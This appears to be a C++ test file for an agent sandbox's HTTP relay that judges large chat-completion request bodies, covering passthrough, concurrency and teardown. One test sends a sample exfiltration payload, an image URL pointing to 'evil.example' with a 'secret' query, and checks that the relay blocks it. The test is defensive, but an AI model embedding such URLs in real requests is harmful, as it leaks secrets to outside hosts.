// Bodies that are judged as a whole: large ones beside the loop, which goes on meanwhile.

#include <atomic>
#include <future>
#include <memory>
#include <optional>
#include <string>

#include <boost/asio/post.hpp>
#include <catch2/catch.hpp>

#include "network/http_relay.hpp"
#include "network/model_judge.hpp"
#include "sockets.hpp"

using namespace agentbox;
using namespace agentbox::gates::network;
using namespace agentbox::test;

namespace {

// A client, a server, and a relay between them that judges.
class Judged {
 public:
  explicit Judged(HttpRelay::Judge judge) {
    const UniqueFd inside = listen_at(AF_INET, 0), outside = listen_at(AF_INET, 0);
    client = connect_to(AF_INET, port_of(inside));
    UniqueFd from_client = accept_from(inside), to_server = connect_to(AF_INET, port_of(outside));
    server = accept_from(outside);
    for (UniqueFd* fd : {&from_client, &to_server}) ::fcntl(fd->get(), F_SETFL, O_NONBLOCK);
    HttpRequests::Passing passing;
    passing.authority = "localhost";
    relay.emplace(loop.context, std::move(from_client), std::move(to_server), "", passing, std::move(judge),
                  [this](HttpRelay::End) { ended = true; });
    running = loop.start();
  }
  ~Judged() {
    loop.stop();
    relay.reset();
  }
  Judged(const Judged&) = delete;
  Judged& operator=(const Judged&) = delete;

  void in_loop(std::function<void()> what) {
    std::promise<void> done;
    boost::asio::post(loop.context, [&] {
      what();
      done.set_value();
    });
    done.get_future().get();
  }

  Loop loop;
  UniqueFd client, server;
  std::optional<HttpRelay> relay;
  std::atomic<bool> ended = false;
  decltype(std::declval<Loop>().start()) running;
};

std::string call(const std::string& body) {
  return "POST /v1/chat/completions HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\n\r\n" + body;
}

std::string conversation(const std::string& part) {
  return R"({"model":"m","messages":[{"role":"user","content":[)" + part + R"({"type":"text","text":")" +
         std::string(4'000'000, 'x') + R"("}]}]})";
}

}  // namespace

TEST_CASE("a large conversation passes to the model server, byte for byte") {
  Judged between(model_judge());
  const std::string body = conversation("");
  std::thread client([&] { say(between.client, call(body)); });
  const Heard heard = hear(between.server, call(body).size());
  client.join();
  CHECK(heard.text.ends_with(body));
  say(between.server, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
  CHECK(hear(between.client, 40).text.ends_with("ok"));
}

TEST_CASE("a large conversation with a picture by address is refused, and nothing of it reaches the server") {
  Judged between(model_judge());
  std::thread client([&] {
    say(between.client,
        call(conversation(R"({"type":"image_url","image_url":{"url":"http://evil.example/?q=secret"}},)")));
  });
  const Heard heard = hear(between.client);
  client.join();
  CHECK(heard.text.starts_with("HTTP/1.1 403"));
  CHECK(heard.text.find("media must be inline") != std::string::npos);
  CHECK(hear(between.server).text.empty());
}

TEST_CASE("while a large body is judged the loop serves others; then what was said of it meanwhile holds") {
  const auto goes_on = std::make_shared<std::promise<void>>();
  const std::shared_future<void> may_end = goes_on->get_future().share();
  const auto begun = std::make_shared<std::promise<void>>();
  HttpRelay::Judge judge;
  judge.collects = [](const HttpRequest&) -> std::size_t { return 10'000'000; };
  judge.body = [begun, may_end](const HttpRequest&, const std::string&) -> std::optional<HttpRefusal> {
    begun->set_value();
    may_end.wait();
    return std::nullopt;
  };
  const bool stopped = GENERATE(false, true);
  Judged between(std::move(judge));
  const std::string body(1'000'000, 'x');
  say(between.client, call(body));
  begun->get_future().get();
  // In the loop, while the judge sleeps.
  between.in_loop([&] {
    if (stopped) between.relay->stop("the owner said no");
  });
  CHECK_FALSE(between.ended);
  goes_on->set_value();
  if (stopped) {
    const std::string said = hear(between.client).text;
    CHECK(said.starts_with("HTTP/1.1 403"));
    CHECK(said.ends_with("the owner said no\n"));
    CHECK(hear(between.server).text.empty());
  } else {
    CHECK(hear(between.server, call(body).size()).text.ends_with(body));
  }
}

TEST_CASE("a relay that goes away while its body is judged is not called back") {
  const auto goes_on = std::make_shared<std::promise<void>>();
  const std::shared_future<void> may_end = goes_on->get_future().share();
  const auto begun = std::make_shared<std::promise<void>>();
  HttpRelay::Judge judge;
  judge.collects = [](const HttpRequest&) -> std::size_t { return 10'000'000; };
  judge.body = [begun, may_end](const HttpRequest&, const std::string&) -> std::optional<HttpRefusal> {
    begun->set_value();
    may_end.wait();
    return std::nullopt;
  };
  Judged between(std::move(judge));
  say(between.client, call(std::string(1'000'000, 'x')));
  begun->get_future().get();
  between.in_loop([&] { between.relay.reset(); });
  goes_on->set_value();
  CHECK(hear(between.server).text.empty());
  CHECK_FALSE(between.ended);
  // The thread is free for the next one.
  Judged after(model_judge());
  const std::string body = conversation("");
  std::thread client([&] { say(after.client, call(body)); });
  CHECK(hear(after.server, call(body).size()).text.ends_with(body));
  client.join();
}
